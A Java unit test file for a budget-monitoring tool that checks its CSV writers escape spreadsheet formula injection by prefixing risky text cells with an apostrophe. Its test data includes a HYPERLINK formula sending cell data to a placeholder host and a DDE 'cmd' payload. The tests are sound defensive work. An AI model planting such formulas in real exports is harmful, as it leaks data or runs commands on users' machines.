package org.budgetmonitor.job;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;

import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.budgetmonitor.ingest.DisbursementRepository;
import org.budgetmonitor.ingest.IngestLine;
import org.budgetmonitor.ingest.PendingReportWriter;
import org.budgetmonitor.ingest.RejectReportWriter;
import org.budgetmonitor.money.Money;
import org.budgetmonitor.support.CsvFiles;
import org.budgetmonitor.variance.Flag;
import org.budgetmonitor.variance.Reason;
import org.budgetmonitor.variance.VarianceCsvWriter;
import org.budgetmonitor.variance.VarianceRow;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Officers open our CSVs in Excel, and their text cells hold what exports and plans say: a cell
 * beginning with =, +, -, @, a tab or a carriage return would run as a formula (OWASP, CSV
 * injection). Such text gets a leading ' ; numeric cells never do.
 */
class CsvInjectionTest {

    private static final String FORMULA = "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")";

    @TempDir
    Path tmp;

    private static List<CSVRecord> read(Path file) throws Exception {
        try (CSVParser parser = CSVParser.parse(CsvFiles.openUtf8(file), CsvFiles.INPUT.builder().setHeader()
                .setSkipHeaderRecord(true).get())) {
            return parser.getRecords();
        }
    }

    @Test
    void neutralisesEveryFormulaLeadingCharacterAndLeavesOtherTextAlone() {
        assertThat(CsvFiles.text("=1+1")).isEqualTo("'=1+1");
        assertThat(CsvFiles.text("+86 123")).isEqualTo("'+86 123");
        assertThat(CsvFiles.text("-2+3")).isEqualTo("'-2+3");
        assertThat(CsvFiles.text("@SUM(A1)")).isEqualTo("'@SUM(A1)");
        assertThat(CsvFiles.text("\t=1")).isEqualTo("'\t=1");
        assertThat(CsvFiles.text("\r=1")).isEqualTo("'\r=1");
        assertThat(CsvFiles.text("国内招商")).isEqualTo("国内招商");
        assertThat(CsvFiles.text("13091626P000175100046")).isEqualTo("13091626P000175100046");
        assertThat(CsvFiles.text("")).isEmpty();
        assertThat(CsvFiles.text(null)).isNull();
    }

    @Test
    void varianceCsvNeutralisesTextCellsButKeepsNegativeFiguresNumbers() throws Exception {
        VarianceRow planned = new VarianceRow(LocalDate.of(2026, 6, 30), "P1", true, FORMULA, "@472001", "单位",
                Money.ofWan("20"), LocalDate.of(2026, 6, 30), Money.ofWan("10"), new BigDecimal("100000"),
                Money.ofYuan("-10000.00"), new BigDecimal("-5"), new BigDecimal("-55"), Flag.RED,
                List.of(Reason.BEHIND_PLAN), Money.ofWan("1"));
        VarianceRow unplanned = VarianceRow.unplanned(LocalDate.of(2026, 6, 30), "+P9", Money.ofYuan("-100.00"));
        Path file = tmp.resolve("variance.csv");

        new VarianceCsvWriter().write(file, List.of(planned, unplanned));

        List<CSVRecord> rows = read(file);
        assertThat(rows.get(0).get("project_name")).isEqualTo("'" + FORMULA);
        assertThat(rows.get(0).get("unit_code")).isEqualTo("'@472001");
        assertThat(rows.get(0).get("actual_wan")).isEqualTo("-1.00");
        assertThat(rows.get(0).get("execution_rate_pct")).isEqualTo("-5.00");
        assertThat(rows.get(0).get("gap_pp")).isEqualTo("-55.00");
        assertThat(rows.get(1).get("project_code")).isEqualTo("'+P9");
        assertThat(rows.get(1).get("actual_wan")).isEqualTo("-0.01");
    }

    @Test
    void rejectedCsvNeutralisesTheReasonAndTheRawLine() throws Exception {
        Path file = tmp.resolve("rejected.csv");

        new RejectReportWriter().write(file, List.of(
                new IngestLine.Rejected("-a.csv", 1, 7, "=cmd|' /C calc'!A0", "-2+3,P1,=1+1,V1")));

        CSVRecord row = read(file).get(0);
        assertThat(row.get("file")).isEqualTo("'-a.csv");
        assertThat(row.get("line")).isEqualTo("7");
        assertThat(row.get("reason")).isEqualTo("'=cmd|' /C calc'!A0");
        assertThat(row.get("raw_line")).isEqualTo("'-2+3,P1,=1+1,V1");
    }

    @Test
    void pendingCsvNeutralisesTextCellsButKeepsTheAmountANumber() throws Exception {
        Path file = tmp.resolve("pending.csv");

        new PendingReportWriter().write(file, List.of(new DisbursementRepository.PendingRow("a.csv", 3,
                LocalDate.of(2026, 6, 1), "P1", new BigDecimal("-12.50"), "=V1", "@某公司", "\t+摘要")));

        CSVRecord row = read(file).get(0);
        assertThat(row.get("amount_yuan")).isEqualTo("-12.50");
        assertThat(row.get("voucher_no")).isEqualTo("'=V1");
        assertThat(row.get("payee")).isEqualTo("'@某公司");
        assertThat(row.get("summary")).isEqualTo("'\t+摘要");
        assertThat(row.get("project_code")).isEqualTo("P1");
        assertThat(row.get("line")).isEqualTo("3");
    }
}
